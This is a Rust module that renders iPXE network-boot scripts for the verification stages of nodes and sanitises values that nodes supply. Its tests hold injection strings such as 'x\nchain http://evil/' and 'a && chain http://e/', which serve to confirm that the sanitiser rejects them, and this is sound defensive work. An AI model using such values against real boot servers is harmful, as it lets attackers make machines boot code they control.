//! Network boot: the static `boot.ipxe` and the per-node script for the node's current stage
//! (memtest, linux, done, hold, local), rendered from editable templates in `DATA/ipxe/`.
//!
//! iPXE has no quoting: a value that reaches a script could end a line or chain a command.
//! So every node-supplied value is checked against a safe character set (or dropped) before
//! it is used anywhere, and scripts only ever contain those checked values, numbers, tokens
//! the collector minted, and URLs it built.

use std::path::{Path, PathBuf};

use axum::extract::{Query, State};
use axum::http::HeaderMap;
use axum::response::{IntoResponse, Response};
use kiln_protocol::wire::NodeIdentity;
use minijinja::{Environment, context};
use serde::Deserialize;

use crate::api::{ApiError, AppState};
use crate::store::boot::{self as store, BootView};
use crate::store::queries::NewRun;
use crate::tokens;

/// The built-in templates, written to `DATA/ipxe/` on first start and read from there after.
pub const TEMPLATES: &[(&str, &str)] = &[
    ("boot.ipxe", include_str!("../../ipxe/boot.ipxe")),
    ("memtest.ipxe", include_str!("../../ipxe/memtest.ipxe")),
    ("linux.ipxe", include_str!("../../ipxe/linux.ipxe")),
    ("done.ipxe", include_str!("../../ipxe/done.ipxe")),
    ("hold.ipxe", include_str!("../../ipxe/hold.ipxe")),
    ("local.ipxe", include_str!("../../ipxe/local.ipxe")),
];

/// Writes the built-in templates and suites that are missing from the data directory.
pub fn install_defaults(data: &Path) -> anyhow::Result<()> {
    let dir = data.join("ipxe");
    std::fs::create_dir_all(&dir)?;
    for (name, text) in TEMPLATES {
        let path = dir.join(name);
        if !path.exists() {
            std::fs::write(&path, text)?;
        }
    }
    let suites = data.join("suites");
    std::fs::create_dir_all(&suites)?;
    for (name, text) in crate::suites::SHIPPED {
        let path = suites.join(format!("{name}.yaml"));
        if !path.exists() {
            std::fs::write(&path, text)?;
        }
    }
    std::fs::create_dir_all(data.join("artifacts"))?;
    Ok(())
}

/// Keeps a node-supplied value only when every character is safe in an iPXE script line:
/// letters, digits, space and `._:()+,/-`, at most 64 characters. Anything else is dropped.
pub fn safe(value: Option<&str>) -> Option<String> {
    let v = value?;
    if v.chars().any(char::is_control) {
        return None;
    }
    let v = v.trim();
    let ok = !v.is_empty()
        && v.len() <= 64
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || " ._:()+,/-".contains(c));
    ok.then(|| v.to_owned())
}

/// What iPXE tells about a node.
#[derive(Debug, Default, Deserialize)]
pub struct IpxeQuery {
    /// `${mac:hexhyp}`: `52-54-00-12-34-56`.
    pub mac: Option<String>,
    /// `${uuid}`.
    pub uuid: Option<String>,
    /// `${serial}`.
    pub serial: Option<String>,
    /// `${manufacturer}`.
    pub manufacturer: Option<String>,
    /// `${product}`.
    pub product: Option<String>,
    /// `${platform}`: `pcbios` or `efi`.
    pub platform: Option<String>,
    /// `${buildarch}`.
    pub buildarch: Option<String>,
}

impl IpxeQuery {
    /// The node's identity, from the values that pass the checks.
    pub fn identity(&self) -> Result<NodeIdentity, ApiError> {
        let mac = self
            .mac
            .as_deref()
            .map(|m| m.replace('-', ":").to_lowercase())
            .filter(|m| kiln_protocol::wire::check_mac(m).is_ok());
        let uuid = safe(self.uuid.as_deref())
            .map(|u| u.to_lowercase())
            .filter(|u| u.len() == 36 && u.chars().all(|c| c.is_ascii_hexdigit() || c == '-'));
        // QEMU and many boards report placeholders rather than nothing.
        let serial = safe(self.serial.as_deref())
            .filter(|s| !["0", "Not Specified", "To be filled by O.E.M."].contains(&s.as_str()));
        let identity = NodeIdentity {
            macs: mac.into_iter().collect(),
            uuid,
            serial,
        };
        identity
            .validate()
            .map_err(|e| ApiError::BadRequest(format!("cannot tell which node this is: {e}")))?;
        Ok(identity)
    }
}

/// The URL nodes reach the collector at: the configured `public_url`, else `http://` + the
/// request's Host header (checked: a host name or address and port, nothing else).
fn base_url(state: &AppState, headers: &HeaderMap) -> Result<String, ApiError> {
    if let Some(url) = &state.config.public_url {
        return Ok(url.trim_end_matches('/').to_owned());
    }
    let host = headers
        .get(axum::http::header::HOST)
        .and_then(|h| h.to_str().ok())
        .unwrap_or("");
    let ok = !host.is_empty()
        && host.len() <= 255
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".:-[]".contains(c));
    if !ok {
        return Err(ApiError::BadRequest(format!(
            "Host header {host:?} is not a host name; set public_url in kiln.yaml"
        )));
    }
    Ok(format!("http://{host}"))
}

/// Renders a template from `DATA/ipxe/`.
pub fn render(data: &Path, name: &str, ctx: minijinja::Value) -> Result<String, ApiError> {
    let path = data.join("ipxe").join(name);
    let text = std::fs::read_to_string(&path).map_err(|e| {
        ApiError::Internal(anyhow::anyhow!(
            "cannot read template {}: {e}",
            path.display()
        ))
    })?;
    let mut env = Environment::new();
    env.set_auto_escape_callback(|_| minijinja::AutoEscape::None);
    env.set_keep_trailing_newline(true);
    env.add_template(name, &text)
        .map_err(|e| ApiError::Internal(anyhow::anyhow!("template {}: {e:#}", path.display())))?;
    let template = env
        .get_template(name)
        .map_err(|e| ApiError::Internal(e.into()))?;
    template
        .render(ctx)
        .map_err(|e| ApiError::Internal(anyhow::anyhow!("rendering {}: {e:#}", path.display())))
}

fn script(text: String) -> Response {
    ([("content-type", "text/plain; charset=utf-8")], text).into_response()
}

/// `GET /boot.ipxe`.
pub async fn boot_ipxe(
    State(state): State<AppState>,
    headers: HeaderMap,
) -> Result<Response, ApiError> {
    let base = base_url(&state, &headers)?;
    Ok(script(render(&state.data, "boot.ipxe", context! { base })?))
}

/// `GET /ipxe?mac=…`: this node's script for its current stage.
pub async fn node_ipxe(
    State(state): State<AppState>,
    headers: HeaderMap,
    Query(q): Query<IpxeQuery>,
) -> Result<Response, ApiError> {
    let base = base_url(&state, &headers)?;
    let identity = q.identity()?;
    let unknown = state.config.unknown_nodes.clone();
    let view = state
        .db
        .call(move |c| store::view(c, &identity, &unknown))
        .await?;
    let serial = safe(view.node.serial.as_deref()).unwrap_or_else(|| "no serial".into());
    let node_id = view.node.id;
    let text = match decide(&state, &view).await? {
        Step::Local => render(
            &state.data,
            "local.ipxe",
            context! { base, node_id, serial },
        )?,
        Step::Hold(reason) => render(
            &state.data,
            "hold.ipxe",
            context! { base, node_id, serial, reason },
        )?,
        Step::Done { run_id, verdict } => render(
            &state.data,
            "done.ipxe",
            context! { base, node_id, serial, run_id, verdict, action => state.config.after_verify.clone() },
        )?,
        Step::Memtest {
            run_id,
            passes,
            options,
        } => render(
            &state.data,
            "memtest.ipxe",
            context! { base, node_id, serial, run_id, passes, options },
        )?,
        Step::Linux { run_id, token } => {
            let cmdline = format!(
                "console=tty0 console=ttyS0,115200 kiln.url={base} kiln.run={run_id} kiln.token={token} kiln.node={node_id}"
            );
            render(
                &state.data,
                "linux.ipxe",
                context! { base, node_id, serial, run_id, cmdline },
            )?
        }
    };
    tracing::info!(
        node_id,
        platform = q
            .platform
            .as_deref()
            .and_then(|p| safe(Some(p)))
            .unwrap_or_default(),
        "served a boot script"
    );
    Ok(script(text))
}

/// What the node boots next.
enum Step {
    Local,
    Hold(String),
    Done {
        run_id: i64,
        verdict: String,
    },
    Memtest {
        run_id: i64,
        passes: u32,
        options: String,
    },
    Linux {
        run_id: i64,
        token: String,
    },
}

async fn decide(state: &AppState, view: &BootView) -> Result<Step, ApiError> {
    match view.node.mode.as_str() {
        "local" => return Ok(Step::Local),
        "hold" => return Ok(Step::Hold("mode hold".into())),
        _ => {}
    }
    let run = match &view.open {
        Some(open) => open.clone(),
        None => {
            let armed_after_last = match (view.node.armed_ms, &view.last) {
                (Some(armed), Some(last)) => armed > last.started_ms,
                (Some(_), None) => true,
                (None, _) => false,
            };
            if !armed_after_last {
                return Ok(match &view.last {
                    Some(last) => Step::Done {
                        run_id: last.id,
                        verdict: last.verdict.clone(),
                    },
                    None => Step::Hold("not armed for verification; set its mode to verify".into()),
                });
            }
            match start_run(state, view).await? {
                Ok(run) => run,
                Err(reason) => return Ok(Step::Hold(reason)),
            }
        }
    };
    let run_id = run.id;
    for (stage, stage_state) in &run.stages {
        match (stage.as_str(), stage_state.as_str()) {
            (_, "done") => continue,
            ("memtest", "pending") => {
                state
                    .db
                    .call(move |c| store::stage_running(c, run_id, "memtest"))
                    .await?;
                let plan =
                    kiln_protocol::load("suite", run.suite_text.as_bytes()).map_err(|e| {
                        ApiError::Internal(anyhow::anyhow!(
                            "stored suite of run {run_id} no longer loads: {e}"
                        ))
                    })?;
                let memtest = plan.memtest.clone().ok_or_else(|| {
                    ApiError::Internal(anyhow::anyhow!(
                        "run {run_id} has a memtest stage but its suite has no memtest"
                    ))
                })?;
                // Capture starts now, before memtest86+ is even fetched, so nothing is missed.
                if let Err(reason) =
                    crate::memtest::stage::start(state, view.node.id, run_id, &memtest).await
                {
                    state
                        .db
                        .call(move |c| store::fail_stage(c, run_id, "memtest", &reason))
                        .await?;
                    return Ok(Step::Done {
                        run_id,
                        verdict: "fail".into(),
                    });
                }
                let mode = match memtest.report_mode {
                    kiln_protocol::suite::ReportMode::Address => "address",
                    kiln_protocol::suite::ReportMode::Summary => "summary",
                    kiln_protocol::suite::ReportMode::Badram => "badram",
                };
                return Ok(Step::Memtest {
                    run_id,
                    passes: memtest.passes,
                    options: format!("reportmode={mode}"),
                });
            }
            (stage, "running") => {
                // The node asked for its script while a stage was still running: it rebooted
                // unexpectedly. That is a fail, never a pass.
                let detail = format!(
                    "unexpected reboot: the node asked for its boot script while the {stage} stage was running"
                );
                let stage = stage.to_owned();
                state
                    .db
                    .call(move |c| store::fail_stage(c, run_id, &stage, &detail))
                    .await?;
                return Ok(Step::Done {
                    run_id,
                    verdict: "fail".into(),
                });
            }
            ("linux", "pending") => {
                // A fresh token for every boot; only its hash is kept.
                let token = tokens::mint()?;
                let hash = tokens::hash(&token);
                state
                    .db
                    .call(move |c| store::set_token(c, run_id, &hash))
                    .await?;
                return Ok(Step::Linux { run_id, token });
            }
            _ => {}
        }
    }
    Ok(Step::Done {
        run_id,
        verdict: "pending".into(),
    })
}

/// Creates the run for an armed node: the assigned suite (node, rack, default) from
/// `DATA/suites/`, its stages, a token. A missing or refused suite holds the node with the
/// reason instead.
async fn start_run(
    state: &AppState,
    view: &BootView,
) -> Result<Result<crate::store::boot::OpenRun, String>, ApiError> {
    let name = view
        .node
        .suite
        .clone()
        .or_else(|| view.node.rack_suite.clone())
        .unwrap_or_else(|| state.config.default_suite.clone());
    let path: PathBuf = state.data.join("suites").join(format!("{name}.yaml"));
    let text = match std::fs::read_to_string(&path) {
        Ok(t) => t,
        Err(e) => return Ok(Err(format!("suite {name} cannot be read: {e}"))),
    };
    let plan = match kiln_protocol::load(&format!("{name}.yaml"), text.as_bytes()) {
        Ok(p) => p,
        Err(e) => {
            return Ok(Err(format!(
                "suite {name} is refused: {}",
                e.to_string().lines().next().unwrap_or("")
            )));
        }
    };
    let stages: Vec<&str> = if plan.memtest.is_some() {
        vec!["memtest", "linux"]
    } else {
        vec!["linux"]
    };
    let allow_destructive = plan
        .steps
        .iter()
        .any(|s| matches!(&s.check, kiln_protocol::Check::Disk(d) if d.destructive));
    let node_id = view.node.id;
    let heartbeat_secs = state.config.heartbeat_timeout.get().as_secs().max(1);
    let placeholder = tokens::hash(&tokens::mint()?);
    let suite_name = plan.name().to_owned();
    let digest = state.image_digest();
    let stage_names: Vec<String> = stages.iter().map(|s| s.to_string()).collect();
    let suite_text = text.clone();
    let run_id = state
        .db
        .call(move |c| {
            let stages: Vec<&str> = stage_names.iter().map(String::as_str).collect();
            store::start_run(
                c,
                &NewRun {
                    node_id,
                    suite_name: &suite_name,
                    suite_text: &suite_text,
                    token_hash: &placeholder,
                    stages: &stages,
                    allow_destructive,
                    heartbeat_secs,
                    image_digest: digest.as_deref(),
                },
            )
        })
        .await?;
    tracing::info!(node_id, run_id, suite = %name, "started a verify run");
    Ok(Ok(crate::store::boot::OpenRun {
        id: run_id,
        stages: stages
            .iter()
            .map(|s| (s.to_string(), "pending".to_owned()))
            .collect(),
        suite_text: text,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_values_are_dropped() {
        assert_eq!(safe(Some("ABC-123.x")), Some("ABC-123.x".into()));
        assert_eq!(
            safe(Some("Standard PC (i440FX + PIIX, 1996)")),
            Some("Standard PC (i440FX + PIIX, 1996)".into())
        );
        for bad in [
            "x\nchain http://evil/",
            "${serial}",
            "a && chain http://e/",
            "a || reboot",
            "#comment",
            "x\r",
            "q\"uote",
            &"x".repeat(65),
        ] {
            assert_eq!(safe(Some(bad)), None, "{bad:?}");
        }
    }

    #[test]
    fn identities_come_from_checked_values_only() {
        let q = IpxeQuery {
            mac: Some("52-54-00-AB-CD-EF".into()),
            uuid: Some("6F1A0C4E-0000-4000-8000-000000000001".into()),
            serial: Some("SN1\nchain http://evil/".into()),
            ..Default::default()
        };
        let id = q.identity().unwrap();
        assert_eq!(id.macs, ["52:54:00:ab:cd:ef"]);
        assert_eq!(
            id.uuid.as_deref(),
            Some("6f1a0c4e-0000-4000-8000-000000000001")
        );
        assert_eq!(id.serial, None);
        assert!(
            IpxeQuery {
                mac: Some("zz".into()),
                ..Default::default()
            }
            .identity()
            .is_err()
        );
    }
}
